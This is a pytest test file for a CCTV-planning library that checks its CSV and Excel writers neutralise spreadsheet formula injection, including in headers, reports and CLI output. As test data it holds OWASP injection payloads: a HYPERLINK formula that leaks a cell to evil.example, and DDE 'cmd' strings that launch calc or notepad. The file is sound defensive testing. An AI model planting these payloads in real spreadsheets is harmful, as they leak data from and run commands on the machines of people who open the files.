"""Formula injection (OWASP): no CSV or XLSX cell written by cctvgeo runs as a formula.

Every writer is checked on the bytes it writes: CSV cells parsed with the csv module, XLSX
sheets read as XML straight from the zip. The oracle here is written independently of
:mod:`cctvgeo._write`.
"""

from __future__ import annotations

import csv
import io
import re
import tempfile
import zipfile
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from shapely import LineString, Point, box

import cctvgeo as cg
from cctvgeo import cli, report
from cctvgeo._validate import Problem, ValidationReport
from cctvgeo._write import formula_like, from_csv, write_csv

#: Payloads from OWASP's CSV-injection page and the issue, one per dangerous first character.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "\t=1+2",
    "\r=1+2",
    "＝1+2",  # full-width equals sign
    "'=1+2",  # already quoted once: must still read back as written
)
TRIGGERS = tuple("=+-@\t\r＝＋－＠")
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet does with a CSV cell: a trigger first, and not a plain number."""
    return cell.startswith(TRIGGERS) and NUMBER.fullmatch(cell) is None


def csv_cells(path: Path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_csv_safe(path: Path) -> list[list[str]]:
    rows = csv_cells(path)
    unsafe = [c for row in rows for c in row if runs_as_formula(c)]
    assert unsafe == [], path.name
    return rows


def xlsx_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(
            z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")
        )


def assert_xlsx_safe(path: Path, payloads: tuple[str, ...] = PAYLOADS) -> openpyxl.Workbook:
    """No formula element in any sheet; every payload cell is quote-prefixed text."""
    assert "<f>" not in xlsx_xml(path) and "<f " not in xlsx_xml(path), path.name
    book = openpyxl.load_workbook(path)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    risky = [c for c in cells if isinstance(c.value, str) and runs_as_formula(c.value.lstrip("'"))]
    assert risky, "the check can fail: payloads were written"
    assert all(c.data_type == "s" and c.quotePrefix for c in risky), path.name
    return book


def cameras_with_payloads() -> gpd.GeoDataFrame:
    n = len(PAYLOADS)
    cams = cg.read_cameras(
        pd.DataFrame(
            {
                "camera_id": [f"C{i}" for i in range(n)],
                "name": list(PAYLOADS),
                "status": ["working"] * n,
                "latitude": 14.5 + np.arange(n) / 100,
                "longitude": [100.5] * n,
            }
        )
    )
    cams['=HYPERLINK("http://evil.example","header")'] = "x"  # an extra column's header
    cams["offset_m"] = -2.5  # a genuine negative number
    cams["note"] = ["-2.5"] * n  # and one typed as text
    return cams


def test_the_oracle_and_the_helper_agree_on_hand_cases() -> None:
    cases = [*PAYLOADS, "-2.5", "+66", "1e5", "-", "ok", "a=b", " =1", "", "ถนน"]
    expected = [True] * len(PAYLOADS) + [
        False,
        False,
        False,
        True,
        False,
        False,
        False,
        False,
        False,
    ]
    assert formula_like(pd.Series(cases)).tolist() == expected
    assert [runs_as_formula(c.lstrip("'")) for c in cases] == expected


def test_write_cameras_csv_neutralises_cells_and_headers_and_reads_back(tmp_path: Path) -> None:
    cams = cameras_with_payloads()
    path = cg.write_cameras(cams, tmp_path / "cams.csv")
    rows = assert_csv_safe(path)
    header = rows[0]
    assert '\'=HYPERLINK("http://evil.example","header")' in header
    names = [r[header.index("name")] for r in rows[1:]]
    assert names == [f"'{p}" for p in cams["name"]]  # the reader trimmed the tab and CR
    assert {r[header.index("offset_m")] for r in rows[1:]} == {"-2.5"}  # numbers untouched
    assert {r[header.index("note")] for r in rows[1:]} == {"-2.5"}
    back = cg.read_cameras(path)
    assert back["name"].tolist() == cams["name"].tolist()  # the apostrophe is removed on reading
    assert '=HYPERLINK("http://evil.example","header")' in back.columns


def test_write_cameras_xlsx_stores_text_never_formulas_header_included(tmp_path: Path) -> None:
    cams = cameras_with_payloads()
    path = cg.write_cameras(cams, tmp_path / "cams.xlsx")
    book = assert_xlsx_safe(path)
    ws = book.active
    header = [c.value for c in ws[1]]
    assert '=HYPERLINK("http://evil.example","header")' in header
    offset = header.index("offset_m") + 1
    assert ws.cell(row=2, column=offset).value == -2.5  # a number, not text
    assert ws.cell(row=2, column=offset).data_type == "n"
    back = cg.read_cameras(path)
    assert back["name"].tolist() == cams["name"].tolist()  # values unchanged in XLSX


def test_survey_problems_csv_from_the_cli_is_neutralised(tmp_path: Path) -> None:
    survey = tmp_path / "survey.csv"
    pd.DataFrame(
        {
            "รหัสกล้อง": ["A1", "A2", "A3"],
            "ละติจูด": ["14.5", "14.6", "14.7"],
            "ลองจิจูด": ["100.5", "100.5", "100.5"],
            "สถานะ": list(PAYLOADS[:3]),  # unknown status words: quoted in the problems
            "ทิศทาง": ["@SUM(1+9)", "-2+3+cmd|' /C calc'!A0", "=1+2"],
        }
    ).to_csv(survey, index=False)
    out = tmp_path / "out"
    code = cli.main(["validate", str(survey), "--out", str(out), "--quiet"])
    assert code == 1  # done, the input has errors
    rows = assert_csv_safe(out / "survey_problems.csv")
    values = [r[rows[0].index("value")] for r in rows[1:]]
    assert f"'{PAYLOADS[0]}" in values and "'@SUM(1+9)" in values


def small_plan_inputs() -> tuple[gpd.GeoDataFrame, gpd.GeoDataFrame]:
    road = gpd.GeoDataFrame(geometry=[LineString([(0, 0), (100, 0)])], crs=32647)
    segs = cg.coverage.road_segments(road, max_length=20.0)
    demand = gpd.GeoDataFrame(
        {
            "demand_id": [f"segment:{i}" for i in range(len(segs))],
            "kind": "segment",
            "weight": 20.0,
            "name": "=cmd|' /C calc'!A0",
            "k_required": pd.array([1] * len(segs), dtype="Int64"),
            "highway": "primary",
            "priority": None,
        },
        geometry=list(segs.geometry),
        crs=32647,
    )
    candidates = gpd.GeoDataFrame(
        {
            "candidate_id": ["=1+2", "@SUM(1)"],
            "kind": ["new", "new"],
            "site_id": ["-2+3+cmd|' /C calc'!A0", "+cmd"],
            "group": ["g1", "g2"],
            "site_name": [PAYLOADS[0], PAYLOADS[1]],
            "heading_deg": [90.0, 90.0],
            "capital_thb": [10_000.0, 10_000.0],
            "running_thb_per_year": [1_000.0, 1_000.0],
            "site_x": [0.0, 60.0],
            "site_y": [0.0, 0.0],
        },
        geometry=[box(0, -5, 50, 5), box(50, -5, 100, 5)],
        crs=32647,
    )
    return demand, candidates


@pytest.mark.parametrize("lang", ["th", "en"])
def test_plan_workbook_and_csv_are_neutralised(tmp_path: Path, lang: str) -> None:
    demand, candidates = small_plan_inputs()
    p = cg.planning.plan(demand, candidates, budget=100_000, method="exact")
    assert len(p.sites) == 2
    assert_xlsx_safe(p.to_excel(tmp_path / "plan.xlsx", lang=lang))
    rows = assert_csv_safe(p.to_csv(tmp_path / "plan.csv"))
    assert f"'{PAYLOADS[0]}" in rows[1] + rows[2]


def test_dashboard_workbook_is_neutralised_headers_and_problems_included(tmp_path: Path) -> None:
    cams = gpd.GeoDataFrame(
        {
            "camera_id": ["A", "B"],
            "name": [PAYLOADS[0], "-2+3+cmd|' /C calc'!A0"],
            "agency": ["@SUM(1+9)", "+cmd"],
            "status": ["working", "broken"],
            "repair_agency": [None, "=1+2"],
        },
        geometry=[Point(100.45, 14.59), Point(100.46, 14.59)],
        crs=4326,
    )
    problems = ValidationReport(
        "=evil.csv",
        [Problem(2, '=HYPERLINK("x")', p, "Bad.", "Fix.") for p in PAYLOADS],
        n_rows=1,
    )
    d = report.dashboard(cams, problems=[problems, "@SUM(1+9) free text"], lang="en")
    book = assert_xlsx_safe(d.to_excel(tmp_path / "d.xlsx"))
    cells = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert PAYLOADS[0] in cells and '=HYPERLINK("x")' in cells  # kept as text


@settings(max_examples=200, deadline=None)
@example(["ok\r=1+2"])  # a bare CR inside a cell would start a new row at "=1+2"
@given(st.lists(st.text(alphabet=st.sampled_from("'=+-@\t\r.5eE a,\"ก"), max_size=8), min_size=1))
def test_csv_guard_is_safe_and_reads_back_exactly(cells: list[str]) -> None:
    frame = pd.DataFrame(np.array([cells, cells], dtype=object).T, columns=["value", cells[0]])
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "t.csv"
        write_csv(frame, path)
        rows = assert_csv_safe(path)
    back = from_csv(pd.DataFrame(rows[1:], columns=rows[0], dtype=object))
    assert list(back.columns) == ["value", cells[0]]
    assert back.iloc[:, 0].tolist() == back.iloc[:, 1].tolist() == cells


def test_store_changes_csv_is_neutralised(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    url = str(tmp_path / "inventory.gpkg")
    survey = pd.DataFrame(
        {
            "รหัสกล้อง": list(PAYLOADS[:4]),
            "ชื่อ": ["=1+2", "@SUM(1)", "-1+2", "+1+2"],
            "ละติจูด": [14.5, 14.6, 14.7, 14.8],
            "ลองจิจูด": [100.5] * 4,
            "สถานะ": ["ใช้งานได้"] * 4,
        }
    )
    survey.to_csv(tmp_path / "a.csv", index=False)
    survey.assign(สถานะ=["ชำรุด"] * 4).to_csv(tmp_path / "b.csv", index=False)
    assert cli.main(["db", "init", url]) == 0
    for name, round_ in (("a.csv", "2566"), ("b.csv", "2567")):
        assert cli.main(["db", "import", url, str(tmp_path / name), "--round", round_]) == 0
    capsys.readouterr()
    assert cli.main(["db", "changes", url, "2566", "2567", "--out", str(tmp_path / "c.csv")]) == 0
    rows = assert_csv_safe(tmp_path / "c.csv")
    assert sorted(r[rows[0].index("camera_id")] for r in rows[1:]) == sorted(
        f"'{p}" for p in PAYLOADS[:4]
    )
    assert cli.main(["db", "changes", url, "2566", "2567"]) == 0
    printed = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert [c for row in printed for c in row if runs_as_formula(c)] == []
